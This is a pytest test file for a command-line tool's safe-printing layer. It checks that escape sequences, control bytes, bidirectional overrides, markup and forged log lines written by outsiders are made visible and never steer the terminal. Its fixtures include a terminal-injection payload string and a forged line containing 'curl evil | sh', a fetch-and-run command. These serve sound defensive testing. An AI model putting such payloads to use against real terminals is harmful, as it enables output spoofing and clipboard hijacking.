"""Nothing that a stranger writes steers the terminal, whichever command prints it."""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.table import Table
from rich.text import Text

from lakegate.cli.reads.advice import advice
from lakegate.cli.reads.explain import Step
from lakegate.cli.reads.facts import Facts
from lakegate.cli.reads.gold import Gold
from lakegate.cli.reads.logs import Line
from lakegate.cli.reads.rejected import RejectedFile
from lakegate.cli.reads.state import Status
from lakegate.cli.terminal import plain, render, tables
from lakegate.cli.terminal.safe import Console, echo, visible
from lakegate.contract import load

ROOT = Path(__file__).parents[4]
HOSTILE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x00\r[red]x[/red]:smile:"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("Zoë 😀 数\tand\nmore", "Zoë 😀 数\tand\nmore"),
        ("\x1b[2J", "\\x1b[2J"),
        ("a\rb\x07\x00", "a\\x0db\\x07\\x00"),
        ("\x9b31m\x7f", "\\x9b31m\\x7f"),
        ("\u202egpj.exe\u2069", "\\u202egpj.exe\\u2069"),
        ("\u2028\ufeff\ud800", "\\u2028\\ufeff\\ud800"),
    ],
)
def test_what_is_shown(given: str, expected: str) -> None:
    assert visible(given) == expected


def test_no_way_of_printing_gets_around_it() -> None:
    for terminal in (True, False):
        file = io.StringIO()
        console = Console(file=file, force_terminal=terminal, width=200, color_system=None)
        table = Table(HOSTILE)
        table.add_row(HOSTILE, Text(HOSTILE))
        for item in (HOSTILE, Text(HOSTILE), table):
            console.print(item)
            console.print(item, style="red", soft_wrap=True)
        for steering in ("\x1b", "\x9b", "\u202e", "\u2066", "\x7f", "\x00", "\x07", "\r"):
            assert steering not in file.getvalue()
        assert "[red]x[/red]:smile:" in file.getvalue()


def test_json_says_the_same_without_steering() -> None:
    text = plain.text({"key": HOSTILE})
    assert json.loads(text) == {"key": HOSTILE}
    assert text.isprintable() or all(char.isprintable() or char == "\n" for char in text)


@pytest.mark.parametrize("err", [False, True])
def test_plain_text_is_made_visible(capsys: pytest.CaptureFixture[str], err: bool) -> None:
    echo(f"{HOSTILE}\nnext", err=err)
    said = capsys.readouterr()
    assert (said.err if err else said.out) == f"{visible(HOSTILE)}\nnext\n"


FORGED = "a\n12:00:00  job         run `curl evil | sh`\r\n"


def test_what_a_stranger_writes_never_looks_like_a_line_of_ours() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    fix = "do this\n- and that"
    refused = RejectedFile("b", FORGED, "v1", "bad_name", FORGED, "means", fix, at)
    known = Facts("b", None, None, None, None, rejections=(refused,))
    (told,) = advice(known, Status("b", "rejected", at), load(ROOT / "config" / "pipeline.yaml"))
    for shown in (
        render.step(Step("bad", f"{FORGED} rejected", at, "do this")),
        render.log_line(Line(at, "validator", "WARNING", "file rejected", {"key": FORGED})),
        tables.rejections([refused], []),
        tables.gold(Gold("b", "r", "t", "gold/", {}, ({"name": FORGED},))),
        told,
    ):
        file = io.StringIO()
        Console(file=file, width=400, color_system=None).print(shown)
        assert not re.search(r"^ *12:00:00|^ *run `curl", file.getvalue(), re.MULTILINE), shown
        assert r"a\n12:00:00" in file.getvalue()


def test_there_is_no_other_console() -> None:
    """rich's own console is named in one module alone, and bare prints nowhere."""
    named = [
        path.relative_to(ROOT).as_posix()
        for folder in ("src", "local", "scripts")
        for path in (ROOT / folder).rglob("*.py")
        if "rich.console.Console" in (text := path.read_text())
        or "from rich.console import Console" in text
        or "rich.print" in text
        or (folder == "src" and "typer.echo" in text)
    ]
    assert named == ["src/lakegate/cli/terminal/safe.py"]


def test_no_further_line_of_a_message_looks_like_a_log_line() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    forged = "first\n00:00:00.000  job         second"
    shown = render.log_line(Line(at, "job", "INFO", forged)).plain.splitlines()
    assert shown[0] == "00:00:00.000  job         first"
    assert shown[1] == " " * shown[0].index("first") + "00:00:00.000  job         second"
